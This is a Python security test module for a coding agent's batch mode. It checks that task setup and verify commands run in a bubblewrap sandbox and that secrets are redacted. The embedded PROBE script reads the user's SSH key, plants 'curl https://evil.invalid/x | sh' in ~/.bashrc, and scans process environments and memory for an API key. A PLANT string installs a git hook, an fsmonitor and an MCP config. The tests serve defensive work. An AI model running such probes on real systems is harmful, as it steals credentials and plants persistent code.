"""A batch task's ``setup`` and ``verify`` run what the model (or the repository) wrote: through
the real ``reasonix batch`` (local engine, a fake model server on loopback), probes in them try
to read the user's SSH key, plant a line in ``~/.bashrc``, find the provider key in their
environment, in the agent's ``/proc/<pid>/environ`` or in the agent's memory, read the task's
session store and the batch's results beside the copy, and print a key a repository file
holds into ``results.jsonl`` and the logs.

Worked before the fix in this module's commit (setup and verify ran as plain shell commands on the
host, their output unredacted): the SSH key was read, ``~/.bashrc`` was written, the session store
beside the copy was readable, a git hook, an fsmonitor and an MCP server were planted in the copy
for the user's next git or reasonix there, the key was read from the agent's memory
(``/proc/<pid>/mem``, the agent running as root), and a key printed from a repository file reached
``results.jsonl`` and ``verify.log`` as it was. Not reached even then: the key in the command's
environment or in the agent's ``/proc/<pid>/environ`` (the allowlist and the blanked start-up block
held).

The control runs the same probes with ``[sandbox] bash = "off"`` in the user's own config: they
see the key file and write ``~/.bashrc``. The task-file option ``"unconfined"`` runs a task's
commands unconfined by name, and the batch says so on stderr and in the row.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from reasonix.testing import Reply
from tests.security.support import (
    KEY_VALUE,
    SSH_KEY,
    HitCounter,
    Lab,
    hits,
    lab,
    path_without,
    record,
)

__all__ = ["hits", "lab"]

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed; CI installs it"
)
pytestmark = [pytestmark, pytest.mark.slow]

SANDBOX_OFF = '[sandbox]\nbash = "off"\n'
#: What every probe looks for in environments and memory: the start of the agent's key
#: (given to it in hex, so the command line itself holds no copy).
KEY_PREFIX = KEY_VALUE[:12]

PROBE = r"""
import os, pathlib, sys
prefix = bytes.fromhex(sys.argv[1])
home = pathlib.Path(os.path.expanduser("~"))
seen = []
def rev(data):
    return data[::-1].decode("ascii", "replace")
try:
    seen.append("ssh=" + (home / ".ssh" / "id_rsa").read_text().strip())
except OSError as exc:
    seen.append("ssh-refused=" + type(exc).__name__)
try:
    with open(home / ".bashrc", "a") as f:
        f.write("curl https://evil.invalid/x | sh  # planted\n")
    seen.append("bashrc=written")
except OSError as exc:
    seen.append("bashrc-refused=" + type(exc).__name__)
for rel in ("../session.db", "../trajectory.jsonl", "../../results.jsonl"):
    if os.path.exists(rel):
        seen.append("parent-visible=" + rel)
for name, value in os.environ.items():
    if prefix.decode() in value:
        seen.append("env-key=" + value[::-1])
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"reasonix" not in f.read():
                continue
    except OSError:
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            for entry in f.read().split(b"\0"):
                if prefix in entry:
                    seen.append("proc-environ-key=" + rev(entry))
    except OSError:
        pass
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("rw"):
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                if hi - lo > 1 << 28:
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except (OSError, ValueError, OverflowError):
                    continue
                at = data.find(prefix)
                if at >= 0:
                    seen.append("memory-key=" + rev(data[at : at + len(prefix) + 10]))
                    break
    except OSError:
        pass
print("\n".join(seen))
"""


def _batch(
    lab: Lab, tasks: list[dict[str, Any]], *, replies: int
) -> tuple[subprocess.CompletedProcess[str], dict[str, dict[str, Any]]]:
    for _ in range(replies):
        lab.ex.push(Reply.text("done"))
    task_file = lab.tmp / "tasks.jsonl"
    task_file.write_text("".join(json.dumps(t) + "\n" for t in tasks))
    out = lab.tmp / "out"
    if out.exists():
        shutil.rmtree(out)
    proc = lab.cli("batch", str(task_file), "--out", str(out), "--yes", "--concurrency", "1")
    rows = [json.loads(x) for x in (out / "results.jsonl").read_text().splitlines()]
    return proc, {r["id"]: r for r in rows}


def _repo(lab: Lab, name: str) -> Path:
    repo = lab.tmp / "repos" / name
    repo.mkdir(parents=True)
    (repo / "probe.py").write_text(PROBE)
    # A key the user left in the repository: printed by a command, it must not be kept.
    (repo / ".env").write_text(f"DEEPSEEK_API_KEY={KEY_VALUE}\n")
    return repo


def _tasks(lab: Lab, suffix: str = "", **extra: Any) -> list[dict[str, Any]]:
    probe = f"python3 probe.py {KEY_PREFIX.encode().hex()}"
    return [
        {
            "id": f"verify{suffix}",
            "repo": str(_repo(lab, f"v{suffix}")),
            "task": "do nothing",
            "planner": False,
            "verify": f"{probe}; cat .env; rev .env",
            **extra,
        },
        {
            "id": f"setup{suffix}",
            "repo": str(_repo(lab, f"s{suffix}")),
            "task": "do nothing",
            "planner": False,
            "setup": f"{probe}; cat .env; exit 1",
            **extra,
        },
    ]


def _texts(lab: Lab, rows: dict[str, dict[str, Any]], suffix: str = "") -> dict[str, str]:
    out = lab.tmp / "out"
    verify = rows[f"verify{suffix}"]
    setup = rows[f"setup{suffix}"]
    return {
        "verify": str(verify["verify_output_tail"]),
        "verify.log": (out / f"verify{suffix}" / "verify.log").read_text(),
        "setup": str(setup["error"]),
        "setup.log": (out / f"setup{suffix}" / "setup.log").read_text(),
        "results": (out / "results.jsonl").read_text(),
    }


def test_batch_setup_and_verify_are_confined_and_redacted(
    lab: Lab, request: pytest.FixtureRequest
) -> None:
    bashrc = (lab.home / ".bashrc").read_text()
    proc, rows = _batch(lab, _tasks(lab), replies=1)
    texts = _texts(lab, rows)
    reversed_key = KEY_VALUE[::-1]
    worked = 0
    for where, text in texts.items():
        assert "ssh=" not in text and SSH_KEY not in text, where
        assert "ssh-refused=FileNotFoundError" in text or where == "results", where
        assert KEY_VALUE not in text, where
        for probe in ("env-key=", "proc-environ-key=", "memory-key=", "parent-visible="):
            assert probe not in text, (where, text)
    # The commands' output did arrive (the reversed key is not the key): only secrets went.
    assert reversed_key in texts["verify"] and "[redacted" in texts["verify"]
    assert "[redacted" in texts["setup.log"]
    # Whatever the command wrote to ~/.bashrc went to the sandbox's empty home, not the user's.
    assert (lab.home / ".bashrc").read_text() == bashrc
    assert rows["verify"]["verify_exit_code"] == 0 and rows["verify"]["error_class"] is None
    assert rows["setup"]["error_class"] == "setup_failed"
    assert "unconfined" not in proc.stderr
    record(request, "batch commands", 2 * 7, worked)


def test_control_unconfined_batch_commands_reach_the_home_folder(lab: Lab) -> None:
    """The same probes with confinement switched off in the user's config: they read the key
    file, write ~/.bashrc and (the agent running as root) read its memory."""
    lab.write_user_config(SANDBOX_OFF)
    _, rows = _batch(lab, _tasks(lab), replies=1)
    texts = _texts(lab, rows)
    for where in ("verify", "verify.log", "setup.log"):
        assert f"ssh={SSH_KEY}" in texts[where], where
        assert "bashrc=written" in texts[where], where
    assert "# planted" in (lab.home / ".bashrc").read_text()
    # The task's session store beside its copy, and the batch's results, are there to read.
    assert "parent-visible=../session.db" in texts["verify.log"]
    if Path("/proc/self/mem").exists() and __import__("os").geteuid() == 0:
        assert "memory-key=" in texts["verify.log"]
    # Redaction does not depend on confinement.
    assert KEY_VALUE not in texts["results"] and KEY_VALUE not in texts["verify.log"]


def test_unconfined_is_a_per_task_option_and_is_printed(lab: Lab) -> None:
    """``"unconfined": ["verify"]`` runs that task's verify as a plain command (the user asked,
    for this task only, and is told); the task without it stays confined."""
    tasks = [
        {**_tasks(lab, "-open")[0], "unconfined": ["verify"]},
        _tasks(lab, "-shut")[0],
    ]
    proc, rows = _batch(lab, tasks, replies=2)
    out = lab.tmp / "out"
    said = [line for line in proc.stderr.splitlines() if "UNCONFINED" in line]
    assert len(said) == 1 and "task verify-open runs its verify UNCONFINED" in said[0], said
    assert rows["verify-open"]["unconfined"] == ["verify"]
    assert "unconfined" not in rows["verify-shut"] or not rows["verify-shut"]["unconfined"]
    opened = (out / "verify-open" / "verify.log").read_text()
    assert f"ssh={SSH_KEY}" in opened and "unconfined" in opened.splitlines()[0]
    shut = (out / "verify-shut" / "verify.log").read_text()
    assert "ssh=" not in shut and "ssh-refused" in shut


def test_bad_unconfined_option_says_what_to_fix(lab: Lab) -> None:
    task = {**_tasks(lab)[0], "unconfined": ["verfy"]}
    task_file = lab.tmp / "tasks.jsonl"
    task_file.write_text(json.dumps(task) + "\n")
    proc = lab.cli("batch", str(task_file), "--out", str(lab.tmp / "out"))
    assert proc.returncode == 2
    assert "'unconfined'" in proc.stderr and "setup" in proc.stderr and "verify" in proc.stderr


def test_without_a_sandbox_setup_is_refused_unless_accepted(lab: Lab) -> None:
    """No bubblewrap on PATH: a setup is refused (never run on the host) until the user's own
    config accepts unconfined commands; then it runs."""
    task = _tasks(lab)[1]
    task_file = lab.tmp / "tasks.jsonl"
    task_file.write_text(json.dumps(task) + "\n")
    env = lab.env(PATH=path_without(lab.tmp, "bwrap"))
    out = lab.tmp / "out"
    proc = lab.cli("batch", str(task_file), "--out", str(out), "--yes", env=env)
    row = json.loads((out / "results.jsonl").read_text())
    assert row["error_class"] == "CommandRefused", row
    assert "allow_unconfined" in row["error"] and not (out / "setup" / "setup.log").exists()
    assert proc.returncode == 1
    lab.write_user_config("[sandbox]\nallow_unconfined = true\n")
    shutil.rmtree(out)
    lab.cli("batch", str(task_file), "--out", str(out), "--yes", env=env)
    row = json.loads((out / "results.jsonl").read_text())
    assert row["error_class"] == "setup_failed"
    assert f"ssh={SSH_KEY}" in (out / "setup" / "setup.log").read_text()


def test_network_follows_the_task_setting(lab: Lab, hits: HitCounter) -> None:
    """A verify reaches a server outside the sandbox only in the task that says
    ``"network": true``."""
    fetch = (
        'python3 -c "import sys, urllib.request; '
        f"urllib.request.urlopen('http://127.0.0.1:{hits.port}/' + sys.argv[1], timeout=5)\""
    )
    tasks = [
        {**_tasks(lab, "-net")[0], "verify": f"{fetch} with-network", "network": True},
        {**_tasks(lab, "-off")[0], "verify": f"{fetch} without-network"},
    ]
    _, rows = _batch(lab, tasks, replies=2)
    assert rows["verify-net"]["verify_exit_code"] == 0, rows["verify-net"]
    assert rows["verify-off"]["verify_exit_code"] != 0
    assert hits.paths == ["/with-network"]


PLANT = (
    "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch ../../PWNED\\n' > .git/hooks/post-checkout"
    " && chmod +x .git/hooks/post-checkout; git config core.fsmonitor 'touch ../../PWNED'; "
    'printf \'{"mcpServers": {"x": {"command": "touch"}}}\' > .mcp.json; true'
)


def _plant_task(lab: Lab) -> dict[str, Any]:
    repo = lab.tmp / "repos" / "plant"
    repo.mkdir(parents=True)
    (repo / "a.txt").write_text("a\n")
    for args in (["init", "-q"], ["add", "-A"]):
        subprocess.run(["git", *args], cwd=repo, check=True)
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "a"],
        cwd=repo,
        check=True,
    )
    return {"id": "plant", "repo": str(repo), "task": "x", "planner": False, "verify": PLANT}


def test_a_verify_cannot_plant_what_runs_later_in_the_copy(lab: Lab) -> None:
    """What the model's tests plant for later — a git hook and an fsmonitor that the user's
    own ``git status``/``checkout`` in the task's copy would run, an MCP server for the next
    ``reasonix`` there — is read-only or undone; the control (no sandbox) keeps all three."""
    for confined in (True, False):
        if not confined:
            lab.write_user_config(SANDBOX_OFF)
        _, rows = _batch(lab, [_plant_task(lab)], replies=1)
        copy = lab.tmp / "out" / "plant" / "repo"
        config = (copy / ".git" / "config").read_text()
        planted = [
            (copy / ".git" / "hooks" / "post-checkout").exists(),
            "fsmonitor" in config,
            (copy / ".mcp.json").exists(),
        ]
        assert planted == ([False] * 3 if confined else [True] * 3), (confined, planted, rows)
        shutil.rmtree(lab.tmp / "repos" / "plant")
